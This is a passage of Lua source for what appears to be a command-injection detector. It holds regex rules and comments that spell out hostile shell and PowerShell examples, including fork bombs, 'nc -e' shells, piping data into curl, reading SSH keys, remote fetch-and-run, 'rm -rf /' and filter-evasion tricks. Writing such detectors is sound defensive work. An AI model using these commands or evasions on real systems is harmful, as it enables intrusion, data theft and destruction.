    -- (or a substitution at a command's place whose command decodes a
    -- text, "x|`echo aWQ=|base64 -d`": the shell runs what it decodes,
    -- a name no reader of the value sees)
    { id = SH, needles = { "base64" },
      pattern = [=[(?:^|[|;&\n])\s*(?:`|\$\()[^`)]{0,200}?\bbase64\s+(?:-d|--decode|-D)\b]=] },
    { id = SH, needles = { "^" }, pattern = [=[[a-z\d.]\^[a-z\d.]+\^]=],
      check = caret_spelled },
    { id = SH, needles = { ";$", "; $", ";&", "; &" },
      pattern = RE_ASSIGNED_RUN, check = assigned_command },
    { id = SH, needles = { "${", ";$", "; $" },
      pattern = RE_ASSIGNED_GLUED, check = glued_command },
    -- (a pipe into curl posting what it reads, "| curl -d @- host",
    -- "| curl -T - ...": the output of the command before it sent away)
    { id = SH, needles = { "curl" },
      pattern = [=[\|\s*curl\b[^|\n]*(?:-d|--data(?:-binary|-raw|-urlencode)?|-t|--upload-file)]=]
          .. [=[\s*@?-(?:\s|$|['"`])]=] },
    { id = SH, needles = { "{" },
      pattern = [=[^\s*["']?\s*\(\s*\)\s*\{|\(\s*\)\s*\{\s*:\s*;\s*\}]=] },
    -- (a function that pipes itself into itself in the background,
    -- then is called: a fork bomb, under any name)
    { id = SH, needles = { "(){", "() {" },
      pattern = [=[([\w:.-]{1,20})\s*\(\s*\)\s*\{[^}]{0,60}?\1\s*\|\s*\1\s*&]=] },
    -- (not as a markdown code span's first word: "`alias ll='ls -l'`",
    -- a README's line quoted for a reader; in a shell the backtick runs
    -- it in a subshell, where it defines nothing)
    -- (nor after a sentence and a label's colon, "Shell alias I use:
    -- alias x='...'": a line shared for a reader; what the alias runs
    -- is read by the other rules as any command line is)
    { id = SH, needles = { "alias" },
      pattern = [=[(?<!`)\balias\s+(?:-[a-z]+\s+)*(?:\+[a-z]\+?\s+)?["']?[\w.-]+["']?\s*=]=],
      check = function(s)
          local at = find(s, "%f[%w]alias%s+[-%w%s]-['\"]?[%w._-]+['\"]?%s*=")
          return not (at and find(sub(s, 1, at - 1), "%a+%s+%a+[^:\n]*:%s*$"))
      end },
    { id = SH, needles = { "nc " },
      pattern = [=[\bnc\s+(?:-[a-z]+\s+)*-[a-z]*[elp]\b]=] },
    -- (the builtin at a command position: "--exec <cmd>", an option and
    -- its placeholder in a manual's table, is no redirection)
    { id = SH, needles = { "exec" },
      pattern = [=[(?<![-.])\bexec\s+\d*\s*[<>]]=] },
    { id = SH, needles = { "trap" },
      pattern = [=[\btrap\s+["'][^"']+["']\s+(?:sig)?(?:exit|int|term|hup|err|debug)\b]=] },
    { id = SH, needles = { "-exec" },
      pattern = [=[\bfind\b.*\s-exec\s]=], check = exec_outside_transcript },
    { id = SH, needles = { "~" },
      pattern = [=[^\s*~[+-]\d*\s*$]=] },
    -- TeX's shell escape, what a server compiling a document with it on
    -- runs: \write18{...} (with any escape character: after
    -- "\catcode`\|=0", "|immediate|write18{...}" is the same),
    -- shellesc's \ShellEscape{...}, and a file read from a pipe,
    -- \input{|"cmd"} or \openin's "|cmd"
    { id = SH, needles = { "write18", "shellescape", "|" },
      pattern = [=[\bwrite18\s*\{|\\shellescape\s*\*?\s*\{]=]
        .. [=[|\\(?:input|include|openin\d*\s*=?|lstinputlisting|verbatiminput)]=]
        .. [=[\s*\{?\s*["']?\|]=] },
    { id = SH, needles = { "-wrapper" },
      pattern = [=[\s-wrapper\s+(?:sh|bash)\b]=] },
    -- (a bracket expression lies within one word: a blank or an operator
    -- byte inside it ends the word, and the "[" is a plain byte then. It
    -- stands for a letter of a name: a bracket holding only a number, or
    -- an "@", "=" or quote, is an index or a predicate, XPath's
    -- "//div[@class='price']" or "/tr[3]/td[1]", no glob)
    -- (a bracket expression matches one byte of a name: a few dozen
    -- bytes at most; unbounded, each of thousands of "[" with no close
    -- read the rest of the value again. A "/" inside is an evasion's,
    -- "/[e//]tc": bash reads the brackets as plain bytes, a path's glob
    -- sees a class)
    { id = "rce-glob", needles = { "[" },
      pattern = [=[(?:^|[\s;|&=<>'"(`])/[\w.\-/?*!\[\]]*]=]
          .. [=[(?:\w\[(?!\d+\])[^\]\s;|&<>()@='"]{0,64}\]]=]
          .. [=[|\[(?!\d+\])[^\]\s;|&<>()@='"]{0,64}\]\w)]=] },
    { id = "rce-glob", needles = { "??", "/?" },
      pattern = [=[(?:^|[\s;|&=<>'"(`])/[\w.\-/*]*\?\?[\w.\-/?*]*|(?:^|[\s;|&=<>'"(`])/\?+/]=] },
    { id = "rce-glob", needles = { "*", "?" }, plain = false,
      pattern = [=[(?:^|[\s;|&=<>'"(`])\.?/[\w.\-]*[*?][\w.\-*?]*/]=], check = glob_root },
    -- a glob inside a file's name, letters on both sides, under the OS's
    -- directories of secrets ("/etc/pa?swd", "/etc/sh**ow",
    -- "/proc/self/envi?on"): it hides the name a filter looks for. A
    -- usage line's glob stands for a whole name or its end ("/etc/*.conf",
    -- "/etc/rc?.d", "/proc/*/status"), and a "?" whose word has a "=" after
    -- it starts a query ("/root/feed?tab=new")
    { id = "rce-glob", needles = { "*", "?" }, plain = false,
      pattern = [=[(?:^|[\s;|&=<>'"(`])(?:\.|[a-z]:)?/(?:etc|proc|root|boot|windows|winnt)/]=]
          .. [=[(?:[\w.\-]+/)*[\w.\-]*[a-z][*?]+[a-z][\w.\-*?]*(?=$|[\s;|&<>'"`)#])]=] },
    -- an empty quote pair inside a path's word: the shell removes it
    -- ("/e""tc/pa''sswd" is /etc/passwd), no one writes it in text
    { id = "rce-glob", needles = { "''", '""' },
      pattern = [=[(?:^|[\s;|&=<>(`])/[\w.\-/'"]*\w(?:''|"")\w]=] },
    -- a brace list expands to words where a command is read (the start,
    -- after a separator, in a substitution), and the first is a command
    -- ("{cat,/etc/passwd}", "{wget,https://x.example/a.sh}", "{l,-lh}s": a
    -- word glued to it goes into every item); after an option or in
    -- text it is a usage line's choice ("{start,stop}"), and
    -- "{heap,stack}-buffer" runs nothing
    { id = "rce-glob", needles = { "{" },
      pattern = [=[(?:^|[;|&`(\n])[ \t]*\{[\w./-]*(?:,[\w./:@?=%-]*)+\}]=],
      check = function(s) return brace_command(s) end },
    -- (glued inside a word, "ca{,}t", "c{a,}t": a command's name; a
    -- number's "3{,}517" is LaTeX's decimal comma, and no command's name
    -- starts with a digit)
    { id = "rce-glob", needles = { "{" },
      pattern = [=[(?<![\w.])[a-z_][\w-]*\{[a-z]*,[a-z]*\}\w]=] },
    -- a database client's escape to the shell as the whole value: MySQL's
    -- and psql's "\\! cmd", sqlite3's ".shell cmd" / ".system cmd"
    { id = SH, needles = { "\\!", ".shell", ".system" },
      pattern = [=[^\s*(?:\\!|\.(?:shell|system))[ \t]+[a-z./]]=],
      check = function(s)
          return escape_runs(match(s, "^%s*\\![ \t]+([%w_./-]+)")
                             or match(s, "^%s*%.%a+[ \t]+([%w_./-]+)"))
      end },
    -- ... or given to the client's -c to run ("-c '\\! id' db": psql runs
    -- the escape's command)
    { id = SH, needles = { "\\!" }, plain = false,
      pattern = [=[(?:^|\s)-c\s*['"]\s*\\![ \t]+[a-z./]]=],
      check = function(s)
          return escape_runs(match(s, "%-c%s*['\"]%s*\\![ \t]+([%w_./-]+)"))
      end },
    -- awk printing into a pipe to a shell ('print "id" | "/bin/sh"'), or
    -- sed's "e" command at an address ("1e id", "$e cmd"): the text runs
    { id = SH, needles = { "sh\"", "sh'" },
      pattern = [=[\bprint[^|\n]{0,200}\|\s*["'](?:/usr)?(?:/bin/)?(?:ba|da|k|z)?sh\b]=] },
    -- (no plain value: "e " is in almost every one, and the plain gate
    -- would send them all the long way; "1e id" alone passes)
    { id = SH, needles = { "e " }, plain = false,
      pattern = [=[^\s*(?:--expression=|-e\s+)?(?:\d+|\$|/[^/\n]{1,80}/)e[ \t]+[a-z./]]=] },
    { id = WIN, needles = { "%" },
      pattern = [=[\bfor\s+(?:/[dflr]\b[^%]*)?%%?[^\s%]*\s+in\s*\(]=] },
    { id = WIN, needles = { "exist", "defined", "errorlevel", "cmdextversion" },
      pattern = [=[\bif\s*(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\s]=] },
    { id = WIN, needles = { " equ ", " neq ", " lss ", " leq ", " gtr ", " geq " },
      pattern = [=[\bif\s*(?:/i\s+)?(?:not\s+)?\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S]=] },
    { id = WIN, needles = { "==" },
      pattern = [=[\bif\s*(?:/i\s+)?(?:not\s+)?\S*%\S*\s*==]=]
        .. [=[|\bif\s*(?:/i\s*)?(?:not\s+)?\S+==\S+\s]=]
        -- (a JSON key named "if", JsonLogic's '{"if": [{"==": ...', is
        -- no statement)
        -- (a group holds no group of its own: "if (a.b() == 'F' &&" and
        -- "if (x === y" are JavaScript's conditions; cmd.exe has no "===")
        .. [=[|\bif(?!["']\s*:)\s*(?:/i\s+)?(?:not\s+)?]=]
        .. [=[(?:"[^"]*"|\[[^\]]*\]|\{[^}]*\}|\([^()]*\))\s*==(?!=)]=] },
    { id = WIN, needles = { "cmd" },
      pattern = [=[\bcmd(?:\.exe)?\s*/[ckr]\b]=] },
    -- PowerShell run: with an option, a quoted or braced script, ".exe",
    -- or last in the value after a separator or a pipe ("PowerShell tips
    -- and tricks" is a title, "Run it in PowerShell" a sentence; "|
    -- powershell" is an interpreter given what the pipe sends). A name
    -- in quotes is a string ("profile": "PowerShell") unless arguments
    -- follow the closing quote ("powershell" -c id: a quoted program).
    { id = WIN, needles = { "powershell", "pwsh" },
      -- (not a comparison operator after the name, "PowerShell -match",
      -- "powershell -replace backreference": the language's, named)
      pattern = [=[\b(?:powershell|pwsh)(?:\.exe\b|\s*(?:-(?!(?:c|i|not)?]=]
          .. [=[(?:match|replace|like|split|join|eq|ne|contains|notcontains|in|notin|gt|lt]=]
          .. [=[|ge|le)\b)[a-z]|/[a-z?]|[{&|;]))]=]
          .. [=[|(?<!["'])\b(?:powershell|pwsh)\s*["']]=]
          .. [=[|["'](?:powershell|pwsh)["']\s*(?:-[a-z]|/[a-z?]|["'{&|;])]=]
          .. [=[|(?:^|[|&;`(]|]=] .. LAST_BREAK .. [=[)\s*(?:powershell|pwsh)\s*$]=]
          -- (or given a command to run after a separator: "& powershell
          -- iwr http://..", "| pwsh iex $x")
          .. [=[|[|&;`]\s*(?:powershell|pwsh)(?:\.exe)?\s+(?:iex|iwr|irm|icm|saps|sal]=]
          .. [=[|invoke-[a-z]+|start-(?:process|job|sleep)|new-object|add-type]=]
          .. [=[|set-content|out-file|get-content)\b]=] },
    -- cmd.exe's substring of a variable ("%COMSPEC:~-7,1%": one letter
    -- of C:\Windows\system32\cmd.exe) spelling a word: two in a row, or
    -- one glued to a letter ("%CommonProgramFiles:~3,1%%windir:~0,1%",
    -- "w%x:~4,1%oami"); only a batch file writes the syntax, and only to
    -- hide the name it spells
    { id = WIN, needles = { ":~" },
      pattern = [=[(?:%[a-z_][\w()]*:~-?\d+(?:,-?\d+)?%){2}]=]
        .. [=[|[a-z]%[a-z_][\w()]*:~-?\d+(?:,-?\d+)?%|%[a-z_][\w()]*:~-?\d+(?:,-?\d+)?%[a-z]]=] },
    { id = WIN, needles = { "%comspec%" },
      pattern = [=[%comspec%\s*/[ckr]\b]=] },
    { id = WIN, needles = { "invoke-" },
      pattern = [=[\binvoke-(?:expression|webrequest|command|restmethod|item|wmimethod]=]
        .. [=[|shellcode)\b]=] },
    -- (the alias then what it runs or fetches: the end, a variable, a
    -- group, a string, a pipe, a URL, a host, an address, an option;
    -- "IRM" for an MRI in French, "IEX" for an exchange: an abbreviation's words)
    { id = WIN, needles = { "iex", "iwr", "irm", "iwmi" },
      pattern = [=[(?:^|[;&|(]\s*)(?:iex|iwr|irm|iwmi)\b(?=\s*+(?:$|[$('"{|;&`)]|https?:|//]=]
          .. [=[|[\w-]+(?:\.[\w-]+)+|-[a-z]))]=] },
    -- (PowerShell's Env: drive listed or read at a command position after a
    -- separator or inside a subexpression, "x; Get-ChildItem Env: |
    -- Out-String", "& gci env:", "a_$(gci env:).csv": the process's
    -- environment, its secrets, read out)
    { id = WIN, needles = { "env:" },
      pattern = [=[(?:[;&|\n]|\$\()\s*(?:get-childitem|gci|get-item|gi|dir|ls|get-content|gc)\s+]=]
          .. [=[(?:-path\s+)?['"]?env:]=] },
    { id = WIN, needles = { "new-object" },
      pattern = [=[\bnew-object\s+(?:-typename\s+)?(?:net\.webclient|system\.net)]=] },
    { id = WIN, needles = { "download" },
      pattern = [=[\bdownload(?:string|file|data)\s*\(]=] },
    { id = WIN, needles = { "start-process", "set-executionpolicy" },
      pattern = [=[\b(?:start-process|set-executionpolicy)\b]=] },
    { id = WIN, needles = { "get-wmiobject", "get-process" },
      pattern = [=[\b(?:get-wmiobject|get-process)\b]=], check = not_cmdlet_line },
    { id = WIN, needles = { "-enc" },
      pattern = [=[\s-(?:enc|encodedcommand)\s+[a-z0-9+/=]{8,}]=] },
    -- a command after a separator that deletes everything the server's
    -- user has: rm -r of the root, the home or all of either ("...; rm -rf
    -- ~", "&& rm -rf /*"), del or rd /s of a drive's root, its Windows,
    -- users or web root tree: whatever command line came before it (a
    -- build's "cd out; rm -rf *" deletes one directory's files)
    { id = "rce-command", needles = { "rm ", "del ", "erase ", "rd ", "rmdir " }, plain = false,
      pattern = [=[(?:[;&|\n]|\$\()\s*(?:sudo\s+)?(?:rm\s+(?:-[a-z-]+\s+)*(?:/\*?|~/?\*?]=]
          .. [=[|\$\{?home\}?/?\*?)(?=$|[\s;&|`)])|(?:del|erase|rd|rmdir)\s+(?:/[a-z]\s+)*]=]
          .. [=[(?:[a-z]:)?\\(?:\*(?:\.\*)?|(?:windows|inetpub|users)\b[^\s&|]*)?(?=$|[\s&|]))]=] },
    -- (a word whose letters carets split, "c^a^l^c": cmd.exe drops a
    -- caret before an ordinary letter and runs the word; no text writes
    -- one between every letter)
    { id = WIN, needles = { "^" }, plain = false,
      pattern = [=[(?<![\w^])[a-z](?:\^[a-z]){2,}(?![\w^])]=] },
    -- (or options alone, a recursive one among them, then the root: the
    -- value handed to rm, chmod or chown as its arguments, "-rf
    -- --no-preserve-root /", "-R /*"; no file a client names is "/")
    { id = "rce-option-command", needles = { " /" }, plain = false,
      pattern = [=[^\s*(?:-{1,2}[a-z][\w-]*\s+)*(?:-[a-z]*r[a-z]*|--recursive|--no-preserve-root)]=]
          .. [=[(?:\s+-{1,2}[a-z][\w-]*)*\s+/\*?\s*$]=] },
    -- argument injection: a value that becomes a program's options runs a
    -- command through the ones made for it (ripgrep's "--pre=sh" runs a
    -- shell on every file, sort's "--compress-program=sh" too, a
    -- renderer's "--run-script" a script)
    -- (find's terminator escaped for a shell, or bare at the value's end:
    -- an argument list handed to find itself has ";" as a word of its own)
    { id = "rce-option-command", needles = { "-exec", "-ok" },
      -- (a bare ";" ends the value or comes before find's next primary)
      pattern = [=[(?:^|\s)-(?:exec|execdir|ok|okdir)\s+\S[^;]*?(?:(?:\\;|\s\+)(?:\s|$)]=]
          .. [=[|\s;\s*(?:$|-[a-z]))]=],
      check = exec_outside_transcript },
    -- (or an option named for the command it runs, given a host probe or
    -- a shell: "--exec=uname -a", "--command=sh"; a usage's
    -- "--command=COMMAND" names its operand)
    { id = "rce-option-command", needles = { "--exec", "--command", "--cmd", "--run", "--shell" },
      pattern = [=[(?:^|\s)--(?:exec|command|cmd|run|shell)\s*=\s*["']?(?:/\S*/)?(?:]=]
          .. OPTION_PROBES .. [=[|sh|bash|zsh|dash]=]
          .. [=[|python\d?|perl|ruby|php|powershell|cmd)(?=$|[\s;|&'"])]=] },
    -- (or any option given a quoted command line that opens with a host
    -- probe or a fetcher, alone or given an option, a path, a URL or a
    -- host, "-x 'curl host.example/p'", "--on-done 'uname'": a wrapper's or a
    -- hook's option runs its value; an option's quoted words, "-m 'curl
    -- support added'", are a message)
    { id = "rce-option-command", needles = { "-" }, plain = false,
      pattern = [=[(?:^|\s)-{1,2}[a-z][\w-]*(?:=|\s+)(["'])\s*(?:/\S*/)?]=]
          .. "(?:" .. OPTION_PROBES .. ")"
          .. [=[(?:\1|\s+(?:-|/|~|https?://|[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}\b))]=] },
    { id = "rce-option-command", needles = { "proxycommand", "localcommand" },
      pattern = [=[(?:^|\s)-o\s*["']?(?:proxycommand|localcommand)\s*=]=] },
    -- (each argument quoted on its own, "'-o' 'X=1' 'ProxyCommand=socat - h:2'":
    -- the list a program's argv is built from)
    { id = "rce-option-command", needles = { "proxycommand", "localcommand" },
      pattern = [=[(?:^|\s)(["'])-o\1\s+(?:(["'])[^"']*\2\s+)*]=]
          .. [=[["'](?:proxycommand|localcommand)\s*=]=] },
    -- (or the value opens with a one-letter option and then a probe, a
    -- fetcher or a delay given its arguments, "-e ping -c 5 h.example":
    -- the option that runs a command given one, rsync's or nc's -e)
    { id = "rce-option-command", needles = { "-" }, plain = false,
      pattern = [=[^\s*-[a-z]\s+(?:]=] .. OPTION_PROBES .. [=[|ping|sleep)\s+\S]=] },
    -- (git's -c sets a key for one command: core.sshCommand runs)
    { id = "rce-option-command", needles = { "sshcommand" },
      pattern = [=[(?:^|\s)-c\s*["']?core\.sshcommand\s*=]=] },
    { id = "rce-option-command", needles = { "--" },
      pattern = [=[(?:^|\s)--(?:checkpoint-action\s*=\s*exec|use-compress-program|to-command]=]
        .. [=[|rsh-command|rsync-path|upload-pack|receive-pack|run-script]=]
        .. [=[|(?:pre|compress-program)\s*=\s*(?:sh|bash|dash|zsh|python\d?|perl|ruby|node|php)]=]
        .. [=[|config\s*=\s*core\.sshcommand)\b]=] },
    -- (or given a script or a library from a directory anyone writes or
    -- uploads land in: tcpdump's -z, pandoc's --lua-filter=, an
    -- interpreter's -r: argument injection that runs what was uploaded)
    -- (a tmp directory at any depth: an application's own, "/var/spool/
    -- app/tmp/", is as writable)
    { id = "rce-option-command", needles = { "/tmp/", "/shm/", "upload" },
      pattern = [=[(?:^|\s)-{1,2}[a-z][\w-]*(?:=|\s+)["']?[\w./-]{0,200}?]=]
        .. [=[/(?:tmp|shm|uploads?)/[\w./-]*\.(?:sh|bash|py|pl|rb|lua|php|js|so)\b]=] },
    -- (or an output option given a place the system runs from: a cron
    -- directory, a login script, authorized_keys: "-o /etc/cron.d/x"
    -- writes a job; gpsbabel's "-F" and tar's "-f" name their output too)
    { id = "rce-argument", plain = false,
      needles = { "/etc/cron", "crontab", "/var/spool/cron", "profile.d", "init.d", "rc.local",
                  "ld.so.preload", "sudoers.d", "authorized_keys", "/.bashrc", "/.profile" },
      pattern = [=[(?:^|\s)(?:-[owf]|--(?:output(?:-document|-file)?|outfile|log-file))]=]
        .. [=[(?:=|\s*)["']?(?:/etc/(?:cron\.(?:d|daily|hourly|weekly|monthly)/|crontab\b]=]
        .. [=[|profile\.d/|init\.d/|rc\.local\b|ld\.so\.preload\b|sudoers\.d/)]=]
        .. [=[|/var/spool/cron/]=]
        .. [=[|(?:~|/root|/home/[\w.-]+)/\.(?:ssh/authorized_keys|bashrc|profile)\b)]=] },
    -- (... or a server-side script in a web root: "-o
    -- /srv/www/htdocs/a.php", ImageMagick's "-write .../public/a.phtml",
    -- sendmail's log of the session "-X/srv/www/x.php" (the mail's text in
    -- it); the web server runs what the program wrote when it is asked
    -- for it)
    { id = "rce-argument", plain = false,
      needles = { "www", "htdocs", "public", "inetpub", "webroot", "webapps" },
      pattern = [=[(?:^|\s)(?:-[owx]|-write|--(?:output(?:-document|-file)?|outfile|log-file))]=]
        .. [=[(?:=|\s*)["']?[\w./-]{0,120}?/(?:www|wwwroot|webroot|htdocs|public_html|public]=]
        .. [=[|inetpub|webapps)/[\w./-]{0,200}?\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|asmx|cgi]=]
        .. [=[|shtml)\b]=] },
    -- (sendmail's session log, "-X" glued to a path, into a web root
    -- whatever the file's name: "-X/var/www/html/m.log" publishes the
    -- mail session, its headers and text)
    { id = "rce-argument", plain = false,
      needles = { "-x/" },
      pattern = [=[(?:^|[\s"'])-x/[\w./-]{0,120}?/(?:www|wwwroot|webroot|htdocs|public_html]=]
        .. [=[|inetpub|webapps)/]=] },
    -- (or a credential file read in by "@": curl's "-F f=@~/.ssh/id_rsa",
    -- ImageMagick's "label:@..."; the file is sent or shown)
    { id = "rce-argument", plain = false, needles = { "=@", ":@", " @", "\t@" },
      pattern = [=[(?:^|\s)(?:--?[a-z][\w-]*(?:=|\s+)(?:[\w-]+=)?|[a-z][\w-]*:)@["']?]=]
        .. [=[(?:~|\$\{?home\}?|/root|/home/[\w.-]+)/\.(?:ssh/id_\w+\b(?!\.pub)]=]
        .. [=[|aws/credentials\b|netrc\b|pgpass\b|git-credentials\b|docker/config\.json\b]=]
        .. [=[|kube/config\b)]=] },
    { id = "rce-option-command", needles = { "-e" },
      pattern = [=[(?:^|\s)-e\s*["']?(?:/bin/|/usr/bin/)?(?:sh|bash|zsh|dash|ksh)\b]=] },
    -- (or a sed script given to -e: the e command at an address runs the
    -- rest of its line, "2e uname -a", when its first word is a command;
    -- the s command's e flag runs what it made, its w flag writes a file
    -- at the path after it, given to -e or as the whole value)
    { id = "rce-option-command", needles = { "-e", "--expression" }, check = sed_exec,
      plain = false,
      pattern = [=[^\s*(?:-[a-z]*e\s*|--expression(?:=|\s+))?['"]?(?:\d+|\$)e\s+[a-z]]=] },
    { id = "rce-option-command", needles = { "-e", "--expression", "s/", "s|", "s#" },
      plain = false,
      pattern = [=[^\s*(?:-[a-z]*e\s*|--expression(?:=|\s+))?['"]?s([/|#,:])[^\n]*?\1]=]
          .. [=[[^\n]*?\1[gip\d]*(?:e[gip\d]*(?=['"\s;]|$)|w\s*/)]=] },
    { id = "rce-windows-env", needles = { "%" },
      pattern = [=[%(?:comspec|systemroot|systemdrive|windir|programfiles|appdata|temp]=]
        .. [=[|userprofile|path|username|computername|homedrive|homepath)%]=] },
    { id = WIN, needles = { "certutil", "bitsadmin", "mshta", "rundll32", "regsvr32",
                            "wscript", "cscript", "msiexec", "wmic" },
      pattern = [=[\b(?:certutil|bitsadmin|mshta|rundll32|regsvr32|wscript|cscript|msiexec)]=]
        .. [=[(?:\.exe)?\s|\bwmic(?:\.exe)?\s]=] },
    { id = WIN, needles = { "bcdboot", "bcdedit", "vssadmin", "wevtutil", "schtasks",
                            "regedit" },
      pattern = [=[\b(?:bcdboot|bcdedit|vssadmin|wevtutil|schtasks|regedit)(?:\.exe)?\s+/]=] },
    -- a PowerShell cmdlet (an approved verb, "-", a noun, written as
    -- PowerShell's documentation and every script write them:
    -- "Start-Sleep") after a separator, with an argument as PowerShell
    -- takes one (a parameter, a number, a variable, a quote, a path): ";
    -- Start-Sleep 5", "| Invoke-Expression $x"; "; read-only", "; add-on
    -- 2" and "; set-up the room" are words of text
    { id = WIN, field = "dec", needles = POWERSHELL_VERBS, plain = false,
      pattern = [=[(?:[;|&`]|]=] .. LAST_BREAK .. [=[|\$\()\s*(?:]=] .. POWERSHELL_ALT
        .. [=[)[A-Z][A-Za-z]+\s+]=]
        .. [=[(?:-[A-Za-z]|\d|\$|["'(]|[A-Za-z]:\\|\\\\|/)]=],
      check = not_cmdlet_line },
}

-- a bin/ path run as a command: first in the value or after a separator,
-- with arguments or a separator after it on its line, or alone on its
-- line between quotes or separators ("'\n/usr/bin/id\n'"); a path alone
-- is data, and so is one a description follows on the next lines
local RE_PATH = [=[(?:^|[;|&`(]|]=] .. LAST_BREAK .. [=[)\s*(?:/usr)?(?:/local)?/s?bin/[\w.+-]+]=]
    .. [=[(?:[ \t]+\S|[ \t]*[;|&]|[ \t]*[\r\n]\s*(?:["'`;|&]|$))]=]
local RE_BIN = [=[(?:^|[\s;|&'"])s?bin/([\w.+-]+)]=]

local GATE = [=[[;|&`$(){}<>\[\]%\n/\\?~!-]|\b(?:for|if|alias|cmd|powershell|pwsh|iex|iwr)\b]=]
    -- (sqlite3's ".shell" carries none of those)
    .. [=[|^\s*\.(?:shell|system)[ \t]]=]
    .. [=[|\b(?:irm|iwmi|invoke|certutil|bitsadmin|mshta|rundll32|regsvr32|wscript|cscript)\b]=]
    .. [=[|\b(?:msiexec|wmic)\b]=]


-- The word at position i, with shell quote removal; returns the word, its
-- end, and whether it was obfuscated: an escape (\ or cmd.exe's ^) or a
-- variable inside it, or quotes in pairs inside it (w'h'o'am'i, c${x}url,
-- sh$u, \ls, ^uname), which nobody types when writing about a command
-- ("I'd" has one quote: not a pair).
-- ($ ' " \ ^: the bytes quote removal and escapes are about)
local QUOTING = { [36] = true, [39] = true, [34] = true, [92] = true, [94] = true }


-- A written line end ("\n" or "\r": a backslash at j, then n or r)
-- ends a line, unless the shell's reading of the word it is in names a
-- program: a backslash before a letter is that letter ("u\name" is
-- uname, "\rm" is rm). The word runs back from j to `from` over letters,
-- digits, - . _ and the quoting bytes, and on after it over the same but
-- quotes. Returns true when it is a line end.
local function word_byte(c)
    return (c >= 97 and c <= 122) or (c >= 48 and c <= 57) or c == 45
        or c == 46 or c == 95
end

local function line_end_at(s, j, n, from)
    local i = j
    while i > from do
        local c = byte(s, i - 1)
        if not (word_byte(c) or c == 39 or c == 34 or c == 92 or c == 94) then
            break
        end
        i = i - 1
    end
    local k = j + 2
    while k <= n and word_byte(byte(s, k)) do
        k = k + 1
    end
    local w = gsub(sub(s, i, j - 1), "['\"\\^]", "") .. sub(s, j + 1, k - 1)
    return not (STRONG[w] or LONE[w] or INTERPRETERS[w] or WEAK[w]
                or PREFIX[w])
end


-- The commands whose output a substitution makes empty: none, echo
-- (a line end, which the substitution strips), true, false and ":".
local EMPTY_OUTPUT = set([[echo true false :]])

-- The length of the substitution "$(...)" at j (its "$") when it runs one
-- of them with nothing after it, "$(echo)", "$( true )"; else nil.
local function empty_output_sub(s, j)
    local k = find(s, ")", j + 2, true)
    if not k or k - j > 10 then
        return nil
    end
    local inner = match(sub(s, j + 2, k - 1), "^%s*(%S+)%s*$")
    return inner and EMPTY_OUTPUT[inner] and k - j + 1 or nil
end

local function drop_empty_output(c)
    if EMPTY_OUTPUT[c] then
        return ""
    end
end

local function read_word(s, i, n)
    local j = i
    local quoting = false
    while j <= n do
        local c = byte(s, j)
        -- an empty substitution, "$()" or "``" between two letters,
        -- expands to nothing: the word goes on ("wh$()oami", "who``ami"
        -- are whoami; reStructuredText's ``make install`` quotes words);
        -- so does one whose command prints nothing, between two of the
        -- word's bytes ("wh$(true)oami")
        if (c == 36 and byte(s, j + 1) == 40 and byte(s, j + 2) == 41)
                or (c == 96 and byte(s, j + 1) == 96 and j > i
                    and word_byte(byte(s, j - 1)) and word_byte(byte(s, j + 2) or 0)) then
            quoting = true
            j = j + (c == 36 and 3 or 2)
            goto next_byte
        end
        if c == 36 and byte(s, j + 1) == 40 and j > i and word_byte(byte(s, j - 1)) then
            local len = empty_output_sub(s, j)
            if len and word_byte(byte(s, j + len) or 0) then
                quoting = true
                j = j + len
                goto next_byte
            end
        end
        -- a backslash before a line break joins the lines, inside a word
        -- too ("wh\<LF>oami" is whoami): the shell's line continuation
        if c == 92 and j > i and (byte(s, j + 1) == 10
                                  or (byte(s, j + 1) == 13 and byte(s, j + 2) == 10)) then
            quoting = true
            j = j + (byte(s, j + 1) == 10 and 2 or 3)
            goto next_byte
        end
        -- stop at space and separators
        if c == 32 or c == 9 or c == 10 or c == 13 or c == 59 or c == 124
                or c == 38 or c == 41 or c == 40 or c == 60 or c == 62
                or c == 96 or c == 44 or c == 61 then
            break
        end
        if c == 36 and byte(s, j + 1) == 40 then
            break
        end
        -- a written line end (\n, \r) ends the word as a line end does,
        -- unless the shell's reading of it names a program: a backslash
        -- before a letter is that letter ("u\name" is uname, "\rm" rm)
        if c == 92 then
            local d = byte(s, j + 1)
            if (d == 110 or d == 114) and line_end_at(s, j, n, i) then
                break
            end
        end
        -- "+" is a form-encoded space (dir+c:, time+curl), but not in g++
        -- (nor after one escaped letter: a regex's class and its
        -- quantifier, "\w+\s\w+")
        if c == 43 and j > i and not (j == i + 2 and byte(s, i) == 92) then
            local d = byte(s, j + 1)
            if d and d ~= 43 and d ~= 32 then
                break
            end
        end
        if QUOTING[c] then
            quoting = true
        end
        j = j + 1
        ::next_byte::
    end
    local w = sub(s, i, j - 1)
    local obf = false
    -- (seen while reading, not by five plain finds per word: this runs
    -- for every value, and Lua patterns leave the JIT-compiled trace)
    if quoting then
        -- (a Windows path, a drive's or a variable's,
        -- "%windir%\system32\ipconfig.exe": cmd.exe reads no backslash
        -- as an escape, and the program is its last name)
        if (byte(w, 1) == 37 or byte(w, 2) == 58)
                and (find(w, "^%%[%w_]+%%\\") or find(w, "^%a:\\")) then
            local k = #w
            while byte(w, k) ~= 92 do
                k = k - 1
            end
            local last = sub(w, k + 1)
            if last ~= "" and not find(last, "[/'\"]") then
                return last, j, false
            end
        end
        -- an unclosed quote: the shell's word goes on to the quote that
        -- closes it (or to the application's own, after the value); a
        -- space before that makes it no program's name ("I'd like it"
        -- is no "id"; "i'd" at the value's end, closed by the
        -- application's quote, is)
        local _, a1 = gsub(w, "'", "")
        local _, a2 = gsub(w, '"', "")
        -- (the quotes just before the word, which command_at stepped
        -- over, pair with ones in it: "'rmt' --version", '""p""y""t..')
        local k = i - 1
        while k >= 1 do
            local b = byte(s, k)
            if b == 39 then
                a1 = a1 + 1
            elseif b == 34 then
                a2 = a2 + 1
            else
                break
            end
            k = k - 1
        end
        if a1 % 2 == 1 or a2 % 2 == 1 then
            local close = find(s, a1 % 2 == 1 and "'" or '"', j, true)
            if find(sub(s, j, close and close - 1 or n), "%s") then
                return w, j, false
            end
        end
        local inner = sub(w, 2, -2)
        local _, q1 = gsub(inner, "'", "")
        local _, q2 = gsub(inner, '"', "")
        obf = find(w, "[\\^]") ~= nil or find(inner, "$", 1, true) ~= nil
